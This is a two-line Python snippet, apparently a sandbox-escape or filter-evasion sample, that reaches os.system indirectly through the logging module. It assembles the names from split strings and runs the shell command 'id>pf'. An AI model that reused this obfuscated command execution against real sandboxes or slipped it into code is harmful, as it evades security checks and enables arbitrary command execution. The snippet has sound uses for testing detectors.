import logging
getattr(getattr(logging, "o" + "s"), "sys" + "tem")("id>pf")
